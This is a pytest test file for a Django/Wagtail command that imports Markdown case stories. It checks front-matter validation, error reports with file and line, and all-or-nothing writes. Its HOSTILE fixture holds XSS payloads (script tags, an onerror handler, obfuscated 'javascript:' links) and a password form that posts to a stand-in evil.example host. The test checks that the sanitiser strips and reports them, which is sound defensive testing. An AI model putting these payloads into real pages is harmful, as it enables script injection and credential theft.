"""``import_stories``: check everything first, report file and line, write all or nothing."""

from io import StringIO
from textwrap import dedent

from django.core.management import CommandError, call_command
from django.urls import reverse

import pytest

from stories.demo import STORIES_DIR
from stories.importer import StoryImporter
from stories.models import CaseStoryPage

pytestmark = pytest.mark.django_db

GOOD = """\
---
title: Budget hearings in the open
partner: alpha
date: 2024-05-02
standfirst: A county opened its budget hearings to the public.
countries: [KE, BD]
themes: [education]
collaborative: open-budgets
partners: [beta]
tags: [hearings, budgets]
results: [More people attended.]
lessons:
  - headline: Publish the calendar early
    explanation: People came when they knew the dates weeks ahead.
    kind: what-worked
    audiences: [governments]
    themes: [education]
  - headline: Translate the summaries
    explanation: Summaries in local languages reached more readers.
    kind: recommendation
---
Intro paragraph with a [link](https://example.org).

## What happened

- one
- two
"""


def write(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(dedent(text), encoding="utf-8")
    return path


def run(*args):
    out, err = StringIO(), StringIO()
    call_command("import_stories", *map(str, args), stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_imports_a_draft_with_everything(tmp_path, network):
    path = write(tmp_path, "hearings.md", GOOD)
    out, _err = run(path)
    assert "1 created" in out
    story = CaseStoryPage.objects.get(slug="budget-hearings-in-the-open")
    assert not story.live
    assert story.get_parent().pk == network["alpha"].pk
    draft = story.get_latest_revision_as_object()
    assert sorted(c.code for c in draft.countries) == ["BD", "KE"]
    assert [t.slug for t in draft.themes.all()] == ["education"]
    assert draft.collaborative.pk == network["collaborative"].pk
    assert [p.slug for p in draft.partners_involved.all()] == ["beta"]
    assert sorted(t.name for t in draft.tags.all()) == ["budgets", "hearings"]
    lessons = list(draft.lessons.all())
    assert [(x.headline, x.kind, x.slug) for x in lessons] == [
        ("Publish the calendar early", "what-worked", "publish-the-calendar-early"),
        ("Translate the summaries", "recommendation", "translate-the-summaries"),
    ]
    assert lessons[0].audiences == ["governments"]
    blocks = [(block.block_type, block.value.get("heading")) for block in draft.body]
    assert blocks == [("section", ""), ("section", "What happened"), ("results", "Results")]
    assert '<a href="https://example.org">link</a>' in draft.body[0].value["text"].source


def test_publish_makes_stories_live_and_reimport_changes_nothing(tmp_path, client, network):
    path = write(tmp_path, "hearings.md", GOOD)
    run(path, "--publish")
    story = CaseStoryPage.objects.get(slug="budget-hearings-in-the-open")
    assert story.live
    assert client.get(story.url).status_code == 200
    revision = story.latest_revision_id
    out, _err = run(path, "--publish")
    assert "1 unchanged" in out
    story.refresh_from_db()
    assert story.latest_revision_id == revision
    write(tmp_path, "hearings.md", GOOD.replace("in the open", "for everyone"))
    out, _err = run(path, "--publish")
    assert "1 created" in out  # a new title gives a new slug


def test_a_bad_file_is_reported_with_line_and_nothing_is_written(tmp_path, network):
    good = write(tmp_path, "a-good.md", GOOD)
    bad = write(
        tmp_path,
        "b-bad.md",
        """\
        ---
        title: Wrong names
        partner: gamma
        date: 2024-05-02
        standfirst: Several mistakes.
        countries:
          - KE
          - XY
        themes: [education, astrology]
        lessons:
          - headline: A lesson
            explanation: Text.
            kind: what-happened
        ---
        Body.
        """,
    )
    with pytest.raises(CommandError, match="nothing was imported") as failure:
        out, err = StringIO(), StringIO()
        call_command("import_stories", str(good), str(bad), stdout=out, stderr=err)
    errors = err.getvalue()
    assert f"{bad}:3: unknown partner 'gamma'" in errors
    assert f"{bad}:8: unknown country 'XY'" in errors
    assert f"{bad}:9: unknown theme 'astrology'" in errors
    assert f"{bad}:13: unknown lesson kind 'what-happened'" in errors
    assert str(good) not in errors
    assert "4 problem(s)" in str(failure.value)
    assert not CaseStoryPage.objects.exists()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("no front matter here", ":1: no front matter"),
        ("---\ntitle: [unclosed\n---\n", "front matter is not valid YAML"),
        ("---\ntitle: T\npartner: alpha\nstandfirst: S\n---\n", ":1: 'date' is missing"),
        (
            "---\ntitle: T\npartner: alpha\nstandfirst: S\ndate: 13/06/2024\n---\n",
            ":5: 'date': a date is YYYY-MM-DD, YYYY-MM or YYYY",
        ),
        (
            "---\ntitle: T\npartner: alpha\nstandfirst: S\ndate: 2024-02-30\n---\n",
            ":5: 'date': 2024-02-30 is not a real date",
        ),
        (
            "---\ntitle: T\npartner: alpha\nstandfirst: S\ndate: 2024-13\n---\n",
            ":5: 'date': 2024-13 is not a real date",
        ),
        (
            "---\ntitle: T\npartner: alpha\nstandfirst: S\ndate: 2024\nsource_url: blog\n---\n",
            ":6: 'source_url' must be https://",
        ),
        (
            "---\ntitle: T\npartner: alpha\nstandfirst: S\ndate: 2024-01-01\ncolour: red\n---\n",
            ":6: unknown key 'colour'",
        ),
    ],
)
def test_malformed_files_are_reported(tmp_path, network, text, reason):
    path = write(tmp_path, "story.md", text)
    err = StringIO()
    with pytest.raises(CommandError):
        call_command("import_stories", str(path), stdout=StringIO(), stderr=err)
    assert reason in err.getvalue()
    assert not CaseStoryPage.objects.exists()


def test_folders_are_read_for_markdown_files(tmp_path, network):
    write(tmp_path, "one.md", GOOD)
    write(tmp_path, "notes.txt", "not a story")
    out, _err = run(tmp_path)
    assert "1 created" in out


HOSTILE = """\
---
title: Hostile markup
partner: alpha
date: 2024-05-02
standfirst: Every trick an attacker would try in Markdown.
---
Intro <script>alert("script")</script> and a [safe link](https://example.org).

<img src="x" onerror="alert('onerror')">

## What happened

A [trap](javascript:alert('link')) and <a href="jav&#97;script:alert('anchor')">another</a>.

<iframe src="https://evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>

Some <b>bold</b> text stays.
"""


def test_hostile_markup_is_dropped_reported_and_the_story_opens_in_the_editor(
    tmp_path, client, network, editor
):
    path = write(tmp_path, "hostile.md", HOSTILE)
    out, err = run(path, "--publish")
    assert "1 created" in out
    assert "6 warning(s)" in out  # both links on line 13 count
    for line, reason in [
        (7, "HTML element <script> is not allowed"),
        (9, "HTML element <img> is not allowed"),
        (13, "link to 'javascript:' is not allowed"),
        (15, "HTML element <iframe> is not allowed"),
        (17, "HTML element <form> is not allowed"),
    ]:
        assert f"{path}:{line}: {reason}" in err
    story = CaseStoryPage.objects.get(slug="hostile-markup")
    assert story.live

    client.force_login(editor)
    edit = client.get(reverse("wagtailadmin_pages:edit", args=[story.pk]))
    assert edit.status_code == 200

    client.logout()
    page = client.get(story.url).content.decode()
    assert '<a href="https://example.org">safe link</a>' in page
    assert "<b>bold</b>" in page
    for hostile in ("alert(", "onerror", "javascript:", "evil.example", 'name="password"'):
        assert hostile not in page


def test_demo_stories_have_nothing_to_drop(db):
    """The demo's Markdown is all rich text an editor could write: no warning to report."""
    importer = StoryImporter()
    stories = importer.check([STORIES_DIR])
    assert len(stories) >= 4
    # Without the demo network loaded, its partners are names without profiles here.
    assert [w for w in importer.warnings if "no partner profile" not in w.reason] == []
